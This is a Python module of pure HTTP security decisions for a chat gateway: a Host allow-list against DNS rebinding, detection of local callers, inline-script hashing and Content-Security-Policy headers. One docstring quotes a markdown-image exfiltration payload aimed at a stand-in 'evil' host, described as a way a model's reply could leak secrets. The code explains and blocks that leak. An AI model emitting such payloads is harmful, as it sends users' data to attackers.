"""Pure decisions of the HTTP protection: Host allow-list, local callers, the page's headers.

No I/O and no ASGI here (`security.middleware` applies them), so each rule is tested as a function.
"""

from __future__ import annotations

import base64
import hashlib
import ipaddress
import re
import socket
from collections.abc import Iterable
from dataclasses import dataclass

__all__ = [
    "FORWARDING_HEADERS",
    "LOCAL_NAMES",
    "OBSERVABILITY_PATHS",
    "HostPolicy",
    "content_security_policy",
    "host_from_header",
    "inline_script_hashes",
    "is_ip_literal",
    "is_local_caller",
    "security_headers",
]

LOCAL_NAMES = frozenset({"localhost", "127.0.0.1", "[::1]"})
DOCKER_HOST_NAME = "host.docker.internal"
"""How a container (Open WebUI, docs/open-webui.md) reaches the host; `.internal` is reserved for
private use (ICANN, 2024), so no public DNS name an attacker controls can be it."""
FORWARDING_HEADERS = ("x-forwarded-for", "forwarded", "x-real-ip")
"""A request carrying any of these came through a proxy: whoever sent it, it is not "local"."""
OBSERVABILITY_PATHS = frozenset({"/readyz", "/metrics", "/openapi.json", "/docs", "/redoc"})
"""Public by default; `METRICS_ALLOWED` / `METRICS_TOKEN` restrict them. `/healthz` always stays open."""
_INLINE_SCRIPT = re.compile(r"<script(?![^>]*\bsrc=)[^>]*>(.*?)</script>", re.DOTALL | re.IGNORECASE)


def host_from_header(value: str) -> str | None:
    """The host part of a Host header (`name`, `name:port`, `[v6]:port`), lower-cased; None if malformed."""
    value = value.strip().lower()
    if not value or any(c.isspace() or c in "/\\@?#" for c in value):
        return None
    if value.startswith("["):
        end = value.find("]")
        if end < 0:
            return None
        host, rest = value[: end + 1], value[end + 1 :]
        if not is_ip_literal(host):
            return None
    else:
        host, _, port = value.partition(":")
        rest = f":{port}" if _ else ""
    if rest and not (rest.startswith(":") and rest[1:].isdigit() and len(rest) <= 6):
        return None
    host = host[:-1] if host.endswith(".") else host
    return host or None


def is_ip_literal(host: str) -> bool:
    text = host[1:-1] if host.startswith("[") and host.endswith("]") else host
    try:
        ipaddress.ip_address(text)
    except ValueError:
        return False
    return host.startswith("[") == (":" in text)  # IPv6 only in brackets, as a Host header carries it


@dataclass(frozen=True)
class HostPolicy:
    """Which Host headers the app answers (DNS rebinding defence).

    A rebinding page reaches us under *its* name (`evil.example` resolving to 127.0.0.1), so a
    name is accepted only when it is ours: localhost (and `*.localhost`, which browsers never
    resolve elsewhere), this machine's host name, the bind address, `ALLOWED_HOSTS`, and the hosts
    of `ALLOWED_ORIGINS`. An IP literal cannot be rebound (the browser connects to exactly that
    address), so every IP literal is accepted: LAN access, containers and probes by address work.
    """

    names: frozenset[str]
    suffixes: tuple[str, ...] = ()
    any_host: bool = False

    @classmethod
    def build(cls, allowed: Iterable[str], extra_names: Iterable[str] = ()) -> HostPolicy:
        names = set(LOCAL_NAMES) | {DOCKER_HOST_NAME}
        suffixes = [".localhost"]
        try:
            own = socket.gethostname().lower().rstrip(".")
        except OSError:
            own = ""
        if own:
            names.update({own, own.split(".")[0]})
        for item in (*allowed, *extra_names):
            item = item.lower().rstrip(".")
            if item == "*":
                return cls(frozenset(names), tuple(suffixes), any_host=True)
            if item.startswith("*."):
                suffixes.append(item[1:])
            elif item:
                names.add(item)
        return cls(frozenset(names), tuple(suffixes))

    def allows(self, host_header: str | None) -> bool:
        if self.any_host:
            return True
        host = host_from_header(host_header or "")
        if host is None:
            return False
        return host in self.names or is_ip_literal(host) or any(host.endswith(s) for s in self.suffixes)


def is_local_caller(client_host: str | None, header_names: Iterable[str], bound_to_loopback: bool) -> bool:
    """A caller on this machine talking to us directly: loopback peer, loopback bind, no proxy headers.

    Behind a reverse proxy on the same host every request comes from 127.0.0.1, so the address
    alone proves nothing; a proxy that adds any forwarding header marks the request as not local.
    A proxy that adds none is indistinguishable from a local caller, so keyless access stays an
    explicit opt-in (`GATEWAY_KEYLESS`).
    """
    if not bound_to_loopback or not client_host:
        return False
    names = {n.lower() for n in header_names}
    if any(h in names for h in FORWARDING_HEADERS):
        return False
    try:
        return ipaddress.ip_address(client_host.strip("[]")).is_loopback
    except ValueError:
        return False


def inline_script_hashes(html: str) -> tuple[str, ...]:
    """CSP `'sha256-…'` sources for every inline `<script>` of `html` (Chainlit's page has two)."""
    out = []
    for body in _INLINE_SCRIPT.findall(html):
        digest = base64.b64encode(hashlib.sha256(body.encode("utf-8")).digest()).decode("ascii")
        out.append(f"'sha256-{digest}'")
    return tuple(dict.fromkeys(out))


def content_security_policy(frame_ancestors: str, script_hashes: Iterable[str] = ()) -> str:
    """The policy for the chat page and every other response.

    Images, connections, scripts, fonts and media come from this origin only (plus `data:`/`blob:`
    for what the page builds itself), so a model reply carrying `![x](https://evil/?q=secret)`
    cannot make the browser fetch anything elsewhere. Styles allow inline: the page's components
    inject `<style>` elements; a stylesheet can only reach other origins through `url()`, which
    `img-src`/`font-src` govern.
    """
    scripts = " ".join(("'self'", *script_hashes))
    return "; ".join(
        (
            "default-src 'self'",
            f"script-src {scripts}",
            "style-src 'self' 'unsafe-inline'",
            "img-src 'self' data: blob:",
            "font-src 'self' data:",
            "connect-src 'self'",
            "media-src 'self' data: blob:",
            "worker-src 'self' blob:",
            "frame-src 'self'",
            "object-src 'none'",
            "base-uri 'self'",
            "form-action 'self'",
            f"frame-ancestors {frame_ancestors}",
        )
    )


def security_headers(csp: str, frame_ancestors: str) -> list[tuple[bytes, bytes]]:
    """Headers added to every HTTP response that does not set its own."""
    headers = [
        (b"content-security-policy", csp.encode("latin-1")),
        (b"x-content-type-options", b"nosniff"),
        (b"referrer-policy", b"no-referrer"),
        (b"cross-origin-opener-policy", b"same-origin"),
        (b"permissions-policy", b"camera=(), geolocation=(), payment=(), usb=(), microphone=(self)"),
    ]
    if frame_ancestors == "'none'":
        headers.append((b"x-frame-options", b"DENY"))  # for browsers without CSP frame-ancestors
    elif frame_ancestors == "'self'":
        headers.append((b"x-frame-options", b"SAMEORIGIN"))
    return headers
